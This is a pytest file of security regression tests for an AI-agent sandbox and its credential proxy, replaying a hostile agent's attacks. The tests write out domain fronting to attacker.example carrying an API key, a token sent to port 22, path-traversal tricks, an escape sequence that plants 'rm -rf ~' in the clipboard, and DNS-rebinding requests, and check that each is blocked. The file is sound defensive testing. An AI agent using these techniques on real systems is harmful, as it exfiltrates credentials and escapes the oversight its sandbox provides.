"""What a hostile agent got in a security test (issue 9), replayed from inside a real
session: `docker exec` as the session's user, requests through the container's own
HTTP(S)_PROXY environment, upstreams stood in for by loopback servers. Each test failed
before its fix."""

from __future__ import annotations

import base64
import http.client
import json
import socket
import subprocess
import sys
from pathlib import Path

import pytest
from websockets.exceptions import ConnectionClosed, InvalidStatus
from websockets.sync.client import connect as ws_connect

from .conftest import AGENTS_IMAGE, agent_running, exec_in, wait_for
from .test_proxy import ANTHROPIC_KEY, GITHUB_TOKEN, QUIET, curl, host_addresses, routed_config
from .upstream import RecordingUpstream

pytestmark = pytest.mark.docker

PLACEHOLDER = "clauderon-proxy-placeholder"
STATUS = '-o /dev/null -w "%{http_code}"'


@pytest.fixture
def upstream():
    with RecordingUpstream() as server:
        yield server


def start(clauderon, repo, upstream, *args: str, extra: str = "", **env: str):
    clauderon.configure(
        routed_config(upstream, extra),
        ANTHROPIC_API_KEY=ANTHROPIC_KEY,
        GITHUB_TOKEN=GITHUB_TOKEN,
        **env,
    )
    created = clauderon.create(repo, "--image", AGENTS_IMAGE, *QUIET, *args)
    return created, clauderon.container(created)


def audit(clauderon, name: str) -> list[dict]:
    lines = clauderon.run("audit", name, "--json", "-n", "2000").stdout.splitlines()
    return [json.loads(line) for line in lines]


def decision(clauderon, name: str, path: str) -> str:
    entries = [e for e in audit(clauderon, name) if e["path"] == path]
    assert entries, f"no audit entry for {path}"
    return entries[-1]["decision"]


def secrets_in(upstream: RecordingUpstream, prefix: str, secret: str) -> list[str]:
    return [s.path for s in upstream.requests_to(prefix) if secret in json.dumps(s.headers)]


# --- the proxy --------------------------------------------------------------------------


def test_keys_never_travel_in_cleartext(clauderon, repo, upstream):
    # A credentialed host the user did not route: its key may go over TLS only.
    with RecordingUpstream() as plain:
        extra = (
            '[proxy.rules."127.0.0.1"]\ncredential = "example_token"\n'
            'header = "Authorization"\nformat = "Bearer {}"\nenv = "EXAMPLE_TOKEN"\n'
        )
        created, container = start(
            clauderon,
            repo,
            upstream,
            "--egress",
            "open",
            extra=extra,
            EXAMPLE_TOKEN="ex-REAL-1234567",
        )
        _code, out = curl(
            container,
            f"--noproxy '' {STATUS} -H 'Authorization: Bearer {PLACEHOLDER}' "
            f"http://127.0.0.1:{plain.port}/probe/clear",
        )
        assert not plain.requests_to("/probe/clear"), "a key went out over plain HTTP"
        assert out.strip().endswith("403")
        assert decision(clauderon, created["name"], "/probe/clear") == "denied:cleartext"


def test_the_name_sent_upstream_is_the_destination(clauderon, repo, upstream):
    created, container = start(clauderon, repo, upstream)
    key = '-H "x-api-key: $ANTHROPIC_API_KEY"'
    fronts = {
        # TLS with the attacker's SNI and Host, tunnelled to a credentialed host
        "/probe/front-sni": "--connect-to attacker.example:443:api.anthropic.com:443 "
        "https://attacker.example/probe/front-sni",
        # the right Host, the attacker's SNI (what a CDN routes on)
        "/probe/front-sni-only": "--connect-to attacker.example:443:api.anthropic.com:443 "
        "-H 'Host: api.anthropic.com' https://attacker.example/probe/front-sni-only",
        # plain HTTP with a foreign Host header
        "/probe/front-host": "-H 'Host: attacker.example' http://api.anthropic.com/probe/front-host",
        "/probe/front-tls-host": "-H 'Host: registry.npmjs.org' "
        "https://api.anthropic.com/probe/front-tls-host",
    }
    for path, args in fronts.items():
        _code, out = curl(container, f"{STATUS} {key} {args}")
        assert not upstream.requests_to(path), f"{path} reached the upstream"
        assert decision(clauderon, created["name"], path) == "denied:fronting", out
    # The audit log says what was really contacted.
    curl(container, f"{key} https://api.anthropic.com/probe/fine")
    entry = next(e for e in audit(clauderon, created["name"]) if e["path"] == "/probe/fine")
    assert entry["host"] == "api.anthropic.com" and entry["port"] == 443
    assert entry["contacted"] == f"127.0.0.1:{upstream.port}"
    assert entry["decision"] == "allowed" and entry["credential"] == "anthropic_api_key"


def test_credentials_go_to_the_service_port_only(clauderon, repo, upstream):
    created, container = start(clauderon, repo, upstream, "--egress", "open")
    _code, out = curl(
        container, f'{STATUS} -H "Authorization: Bearer $GH_TOKEN" https://github.com:22/probe/port'
    )
    assert not upstream.requests_to("/probe/port"), "the GitHub token went to port 22"
    assert decision(clauderon, created["name"], "/probe/port") == "denied:port"
    # The allowlist knows ports too.
    clauderon.run("delete", "--force", created["name"])
    created, container = start(clauderon, repo, upstream)
    code, out = curl(container, "https://github.com:22/probe/port2")
    assert "egress to github.com:22 is denied" in out, out  # read inside TLS
    assert not upstream.requests_to("/probe/port2")


def test_read_only_decides_on_the_normalised_path(clauderon, repo, upstream):
    created, container = start(clauderon, repo, upstream)
    clauderon.run("set-access-mode", created["name"], "read-only")
    key = '-H "x-api-key: $ANTHROPIC_API_KEY"'
    for args in (
        "-X POST --path-as-is https://api.anthropic.com/v1/messages/../files",
        "-X DELETE --path-as-is https://api.anthropic.com/v1/messages/%2e%2e/files/file_123",
        "-X POST --path-as-is https://api.anthropic.com/v1/messages/%2E%2E/files",
    ):
        _code, out = curl(container, f"{STATUS} {key} {args}")
        assert out.strip().endswith("403"), args
    assert not upstream.requests_to("/v1/messages/") and not upstream.requests_to("/v1/files")
    _code, out = curl(container, f"{STATUS} {key} -X POST https://api.anthropic.com/v1/messages")
    assert out.strip().endswith("200")  # the agent's own model calls still work


def test_open_egress_never_reaches_the_host(clauderon, repo, upstream):
    created, container = start(clauderon, repo, upstream, "--egress", "open")
    gateway = clauderon.gateway()
    # A server on every address of the machine, and one on the bridge's gateway only.
    with (
        RecordingUpstream(host="0.0.0.0") as anywhere,
        RecordingUpstream(host=gateway) as on_gateway,
    ):
        port = anywhere.port
        targets = [
            f"http://127.0.0.1:{port}/probe/host",
            f"http://localhost:{port}/probe/host",
            f"http://[::ffff:127.0.0.1]:{port}/probe/host",
            f"http://0.0.0.0:{port}/probe/host",
            f"https://127.0.0.1:{port}/probe/host",
            f"http://{gateway}:{on_gateway.port}/probe/host",
            # A name that resolves to this machine (its own name, to loopback or to one of
            # its addresses): the proxy resolves it and refuses the address, not the name.
            f"http://{socket.gethostname()}:{port}/probe/host",
        ]
        targets += [f"http://{a}:{port}/probe/host" for a in host_addresses()]
        for url in targets:
            _code, out = curl(container, f"--noproxy '' -m 5 {url}")
            assert "ok GET" not in out, f"{url} reached the host"
        assert not anywhere.requests_to("/probe/host")
        assert not on_gateway.requests_to("/probe/host")
    decisions = {
        e["decision"] for e in audit(clauderon, created["name"]) if e["path"] == "/probe/host"
    }
    assert decisions == {"denied:host"}, decisions
    # A host the user named under [proxy.upstreams] is still reached, on loopback too.
    _code, out = curl(container, "https://registry.npmjs.org/probe/named")
    assert "ok GET /probe/named" in out


def test_echoed_secrets_come_back_as_placeholders(clauderon, repo, upstream):
    _created, container = start(clauderon, repo, upstream)
    basic = base64.b64encode(f"x-access-token:{GITHUB_TOKEN}".encode()).decode()
    for args in (
        '-H "x-api-key: $ANTHROPIC_API_KEY" https://api.anthropic.com/echo',
        '-H "Authorization: Bearer $GH_TOKEN" https://api.github.com/echo',
        "https://github.com/echo",
        '-H "Accept-Encoding: gzip" -H "x-api-key: $ANTHROPIC_API_KEY" '
        "https://api.anthropic.com/echo",
    ):
        _code, out = curl(container, f"-si {args}")
        for secret in (ANTHROPIC_KEY, GITHUB_TOKEN, basic):
            assert secret not in out, f"{args} handed back a real secret"
        head, body = out.split("\r\n\r\n")[-2:]  # after the CONNECT's own answer
        assert head.startswith("HTTP/") and " 401" in head.splitlines()[0], out
        assert "www-authenticate: Bearer" in head and PLACEHOLDER in head
        assert PLACEHOLDER in body
    # The upstream did receive the real keys: the echo carried them.
    assert secrets_in(upstream, "/echo", ANTHROPIC_KEY) and secrets_in(upstream, "/echo", basic)


def test_hook_reports_are_bounded(clauderon, repo, upstream):
    created, container = start(clauderon, repo, upstream)
    pid = int(clauderon.paths.daemon_lock.read_text().strip())

    def peak_rss_mb() -> float:
        status = Path(f"/proc/{pid}/status").read_text()
        return int(next(x for x in status.splitlines() if x.startswith("VmHWM")).split()[1]) / 1024

    before = peak_rss_mb()
    url = "http://clauderon.internal/v1/agent-events/claude/Stop"
    exec_in(
        container,
        "head -c 200000000 /dev/zero | curl -s -m 60 -o /dev/null -X POST "
        f"-H 'Authorization: Bearer wrong' --data-binary @- {url}",
    )
    exec_in(
        container,
        "head -c 200000000 /dev/zero | curl -s -m 60 -o /dev/null -X POST "
        f"-H 'Transfer-Encoding: chunked' -H 'Authorization: Bearer wrong' -T - {url}",
    )
    grown = peak_rss_mb() - before
    assert grown < 60, f"the daemon grew by {grown:.0f} MB on 400 MB of rejected reports"
    # A real report still gets through, and a wrong token is refused on its headers.
    _code, out = exec_in(
        container,
        f'curl -s {STATUS} -X POST -H "Authorization: Bearer $CLAUDERON_SESSION_TOKEN" '
        f"--data '{{}}' {url}",
    )
    assert out.strip() == "200"
    _code, out = exec_in(
        container, f"curl -s {STATUS} -X POST -H 'Authorization: x' -d '{{}}' {url}"
    )
    assert out.strip() == "403"
    assert clauderon.run("list", "--json").json[0]["name"] == created["name"]


# --- the daemon ---------------------------------------------------------------------------


def test_a_fifo_transcript_cannot_freeze_the_daemon(clauderon, repo, upstream):
    created, container = start(clauderon, repo, upstream)
    fifo_all = (
        f"mkdir -p /workspace/.claude/projects/-workspace /workspace/.claude/projects/0 && "
        f"for d in /workspace/.claude/projects/*/; do rm -f ${{d}}{created['id']}.jsonl; "
        f"mkfifo ${{d}}{created['id']}.jsonl; done"
    )
    report = (
        "echo '{}' | /workspace/.clauderon/hooks/report claude UserPromptSubmit; "
        "echo '{}' | /workspace/.clauderon/hooks/report claude PreToolUse"
    )
    # The agent itself is paused: a writer opening the FIFO would release the reader.
    each_agent = 'for p in /proc/[0-9]*; do [ "$(cat $p/comm 2>/dev/null)" = claude ] && '
    wait_for(lambda: agent_running(container, "claude"))
    exec_in(container, each_agent + 'kill -STOP "${p#/proc/}"; done; true')
    try:
        code, out = exec_in(container, f"{fifo_all} && {report}")
        assert code == 0, out
        # The agent said `working` and its transcript is a FIFO: `list` must still answer.
        listed = clauderon.run("list", "--json", timeout=30).json
        assert listed[0]["agent_status"] == "working"
        assert clauderon.run("daemon", "status", timeout=30).code == 0
        _code, out = curl(container, "https://registry.npmjs.org/probe/still-serving")
        assert "ok GET /probe/still-serving" in out  # the proxy on the same loop too
    finally:  # before the fix the daemon was blocked in open(): let it go
        exec_in(
            container,
            "for f in /workspace/.claude/projects/*/*.jsonl; do "
            'timeout 2 sh -c "echo >> $f"; done; true',
        )
        exec_in(container, each_agent + 'kill -CONT "${p#/proc/}"; done; true')


def _raw(socket_path: Path, method: str, path: str, body: object = None) -> tuple[int, bytes]:
    from clauderon.client import UnixHTTPConnection

    conn = UnixHTTPConnection(str(socket_path), timeout=300)
    payload = json.dumps(body).encode() if body is not None else None
    headers = {"content-type": "application/json"} if payload is not None else {}
    conn.request(method, path, body=payload, headers=headers)
    response = conn.getresponse()
    return response.status, response.read()


def test_no_route_answers_with_the_session_tokens(clauderon, repo, upstream):
    created, container = start(clauderon, repo, upstream)
    name = created["name"]
    env = dict(e.split("=", 1) for e in container.attrs["Config"]["Env"])
    tokens = {env["CLAUDERON_SESSION_TOKEN"], env["HTTPS_PROXY"].split("@")[0].split(":")[-1]}
    socket_path = clauderon.paths.socket
    spec = json.loads(_raw(socket_path, "GET", "/openapi.json")[1])
    routes = {(m.upper(), p) for p, ops in spec["paths"].items() for m in ops}
    s = f"/api/sessions/{name}"
    calls = [
        ("GET", "/api/health", "/api/health", None),
        ("GET", "/api/sessions", "/api/sessions", None),
        ("GET", s, "/api/sessions/{name}", None),
        (
            "POST",
            f"{s}/access-mode",
            "/api/sessions/{name}/access-mode",
            {"access_mode": "read-only"},
        ),
        ("POST", f"{s}/send", "/api/sessions/{name}/send", {"text": "hello"}),
        ("GET", f"{s}/screen", "/api/sessions/{name}/screen", None),
        ("GET", f"{s}/attach", "/api/sessions/{name}/attach", None),
        ("GET", f"{s}/logs?tail=5", "/api/sessions/{name}/logs", None),
        ("POST", f"{s}/stop", "/api/sessions/{name}/stop", None),
        ("POST", f"{s}/start", "/api/sessions/{name}/start", None),
        ("POST", f"{s}/stop", "/api/sessions/{name}/stop", None),
        ("POST", f"{s}/start?stream=true", "/api/sessions/{name}/start", None),
        ("POST", f"{s}/refresh", "/api/sessions/{name}/refresh", None),
        ("POST", f"{s}/refresh?stream=true", "/api/sessions/{name}/refresh", None),
        ("POST", f"{s}/archive", "/api/sessions/{name}/archive", None),
        ("POST", f"{s}/unarchive", "/api/sessions/{name}/unarchive", None),
        ("POST", f"{s}/archive", "/api/sessions/{name}/archive", None),
        ("POST", f"{s}/unarchive?stream=true", "/api/sessions/{name}/unarchive", None),
        ("GET", f"{s}/diff", "/api/sessions/{name}/diff", None),
        ("GET", f"{s}/changes", "/api/sessions/{name}/changes", None),
        ("POST", f"{s}/commit", "/api/sessions/{name}/commit", {"message": "work"}),
        ("POST", f"{s}/merge", "/api/sessions/{name}/merge", {}),
        # No remote in the test repository: push and pr answer an error (merge may too),
        # checked all the same.
        ("POST", f"{s}/push", "/api/sessions/{name}/push", {}),
        ("POST", f"{s}/pr", "/api/sessions/{name}/pr", {}),
        ("GET", "/api/credentials", "/api/credentials", None),
        (
            "PUT",
            "/api/credentials/openai_api_key",
            "/api/credentials/{name}",
            {"value": "sk-x-123"},
        ),
        ("GET", "/api/audit?limit=1000", "/api/audit", None),
        ("POST", "/api/allow", "/api/allow", {"host": "example.org", "session": name}),
        ("GET", "/api/allow", "/api/allow", None),
        ("POST", "/api/disallow", "/api/disallow", {"host": "example.org", "session": name}),
        ("GET", "/api/cache", "/api/cache", None),
        ("POST", "/api/reconcile", "/api/reconcile", None),
        ("POST", "/api/sessions/cancel", "/api/sessions/cancel", {"request_id": "nope"}),
        ("POST", "/api/tokens", "/api/tokens", {"name": "t"}),
        ("GET", "/api/tokens", "/api/tokens", None),
        ("POST", "/api/web/login", "/api/web/login", None),
        ("GET", "/openapi.json", None, None),
    ]
    # Not called: they answer nothing about a session (and clean-cache would remove
    # volumes other homes on this engine share; shutdown would end the test's daemon;
    # web/listen opens a TCP port, which tests/web covers).
    exempt = {
        ("DELETE", "/api/cache"),
        ("POST", "/api/daemon/shutdown"),
        ("POST", "/api/web/listen"),
    }
    (Path(created["worktree"]) / "work.txt").write_text("something to commit\n")
    answers = []
    for method, path, _route, body in calls:
        status, data = _raw(socket_path, method, path, body)
        failing = path.endswith(("/merge", "/push", "/pr"))
        assert status < (500 if failing else 400), (method, path, status, data[:300])
        answers.append((method, path, data))
    token_id = json.loads(answers[-4][2])["id"]
    answers.append(("DELETE", "tokens", _raw(socket_path, "DELETE", f"/api/tokens/{token_id}")[1]))
    answers.append(("DELETE", s, _raw(socket_path, "DELETE", f"{s}?force=true")[1]))
    covered = {(m, r) for m, _p, r, _b in calls if r} | {
        ("DELETE", "/api/tokens/{token_id}"),
        ("DELETE", "/api/sessions/{name}"),
        ("POST", "/api/sessions"),  # made the session (start() above)
    }
    assert routes - covered - exempt == set(), "a new route: add it to this test"
    for method, path, data in answers:
        for token in tokens:
            assert token.encode() not in data, f"{method} {path} answered a session token"


def test_the_terminal_gets_no_control_sequence_from_a_session(clauderon, repo, upstream):
    created, container = start(clauderon, repo, upstream)
    osc = "$(printf '\\033]52;c;cm0gLXJmIH4=\\007\\033]0;owned\\007\\033[2A\\033[K')"
    curl(container, f'--request-target "/probe/{osc}x" https://registry.npmjs.org/')
    curl(container, f'-X "G{osc}ET" https://registry.npmjs.org/probe/method')
    printed = clauderon.run("audit", created["name"], "-n", "100")
    assert "/probe/" in printed.stdout
    assert "\x1b" not in printed.stdout and "\x07" not in printed.stdout
    assert "\\x1b]52;c;" in printed.stdout  # shown, not obeyed
    as_json = clauderon.run("audit", created["name"], "-n", "100", "--json").stdout
    assert "\x1b" not in as_json and "\\u001b]52" in as_json
    for command in ("logs", "attach"):
        assert "raw" in clauderon.run(command, "--help").stdout


# --- the TCP listener: what a web page or another local user can send ------------------------


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def _http(port: int, method: str, path: str, headers: dict[str, str], body: bytes = b""):
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    conn.request(method, path, body=body or None, headers=headers)
    response = conn.getresponse()
    return response.status, response.read()


@pytest.fixture
def listening(clauderon, repo, upstream):
    """A session, and the daemon also listening on a loopback TCP port."""
    clauderon.configure(routed_config(upstream), ANTHROPIC_API_KEY=ANTHROPIC_KEY)
    port = _free_port()
    daemon = subprocess.Popen(
        [sys.executable, "-m", "clauderon", "daemon", "--listen", f"127.0.0.1:{port}"],
        env=clauderon.env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        wait_for(lambda: clauderon.run("daemon", "status", check=False).code == 0, 30)
        created = clauderon.create(repo, "--image", AGENTS_IMAGE, *QUIET)
        yield created, port
    finally:
        clauderon.run("daemon", "stop", check=False)
        daemon.wait(timeout=60)


def test_a_web_page_cannot_drive_the_daemon_on_loopback(clauderon, listening):
    created, port = listening
    name = created["name"]
    # What any page can send: a cross-origin "simple" POST, no token.
    status, _ = _http(
        port,
        "POST",
        f"/api/sessions/{name}/stop",
        {
            "Content-Type": "text/plain",
            "Origin": "http://evil.example",
            "Host": f"127.0.0.1:{port}",
        },
        b"x",
    )
    assert status in (401, 403)
    status, _ = _http(port, "POST", f"/api/sessions/{name}/stop", {"Content-Type": "text/plain"})
    assert status == 401  # loopback asks for a token too
    assert clauderon.run("list", "--json").json[0]["state"] == "running"
    token = clauderon.run("token", "create", "--name", "web").stdout.strip()
    bearer = {"Authorization": f"Bearer {token}"}
    # DNS rebinding: a page whose name now points at 127.0.0.1, even with a token.
    status, body = _http(port, "GET", "/api/sessions", {**bearer, "Host": f"evil.example:{port}"})
    assert status == 403 and b"forbidden_host" in body and name.encode() not in body
    for host in (f"127.0.0.1:{port}", f"localhost:{port}", f"{socket.gethostname()}:{port}"):
        status, body = _http(port, "GET", "/api/sessions", {**bearer, "Host": host})
        assert status == 200 and name.encode() in body, host
    # WebSockets: the Origin is checked.
    with (
        pytest.raises((ConnectionClosed, InvalidStatus)),
        ws_connect(
            f"ws://127.0.0.1:{port}/ws/events?token={token}", origin="http://evil.example"
        ) as ws,
    ):
        ws.recv(timeout=5)
    with ws_connect(
        f"ws://127.0.0.1:{port}/ws/events?token={token}", origin=f"http://localhost:{port}"
    ) as ws:
        assert json.loads(ws.recv(timeout=5))["type"] == "connected"
    # The token in the URL never reaches the log.
    log = (clauderon.paths.logs / "daemon.log").read_text()
    assert token not in log and "token=[redacted]" in log  # uvicorn logged the path


def test_revoking_a_token_closes_what_it_opened(clauderon, listening):
    created, port = listening
    token = clauderon.run("token", "create", "--name", "console").stdout.strip()
    token_id = clauderon.run("token", "list").stdout.split()[0]
    headers = {"Authorization": f"Bearer {token}"}
    url = f"ws://127.0.0.1:{port}"
    with (
        ws_connect(f"{url}/ws/events", additional_headers=headers) as events,
        ws_connect(f"{url}/ws/console/{created['name']}?token={token}") as console,
    ):
        assert json.loads(events.recv(timeout=10))["type"] == "connected"
        assert json.loads(console.recv(timeout=30))["type"] == "snapshot"
        clauderon.run("token", "revoke", token_id)
        for ws in (events, console):
            with pytest.raises(ConnectionClosed) as closed:
                while True:  # whatever was queued, then the close
                    ws.recv(timeout=10)
            assert closed.value.rcvd is not None and closed.value.rcvd.code == 4401
        with pytest.raises(ConnectionClosed):
            console.send(json.dumps({"type": "input", "data": "typed after revoke"}))
            console.recv(timeout=5)
    status, _ = _http(port, "GET", "/api/sessions", headers)
    assert status == 401
